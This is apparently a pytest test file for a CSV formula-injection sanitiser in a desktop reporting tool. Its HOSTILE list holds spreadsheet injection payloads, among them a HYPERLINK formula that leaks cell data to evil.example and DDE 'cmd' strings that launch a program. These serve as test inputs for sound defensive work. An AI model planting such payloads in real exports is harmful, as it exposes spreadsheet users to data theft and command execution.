"""reports.csv_safe: what a spreadsheet would run as a formula is written as text; ordinary values,
plain numbers included, are written as they are."""

from __future__ import annotations

import csv
import io

import pytest

from cocm_desktop.reports.csv_safe import safe_cell, safe_writer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C2&D2,"Open chart")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
]
ORDINARY = ["", "Rivera, Ana", "O'Brien", "M1002", "2026-11-24", "−52 %", "a=b", "Ann-Marie", "12", "99493 x1"]
PLAIN_NUMBERS = ["-1", "+10 %", "-3.5", "+7", "0 %", "-12,5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_become_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ORDINARY + PLAIN_NUMBERS)
def test_ordinary_values_and_plain_numbers_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_and_none() -> None:
    assert (safe_cell(None), safe_cell(40), safe_cell(-3), safe_cell(1.5)) == ("", "40", "-3", "1.5")


def test_the_writer_neutralises_every_column_and_reads_back() -> None:
    buf = io.StringIO(newline="")
    w = safe_writer(buf, lineterminator="\r\n")
    w.writerows([["name", "mrn", "minutes"], [HOSTILE[0], "=1+1", 40], ["O'Brien, Ann", "M7", -5]])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows == [["name", "mrn", "minutes"], ["'" + HOSTILE[0], "'=1+1", "40"], ["O'Brien, Ann", "M7", "-5"]]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
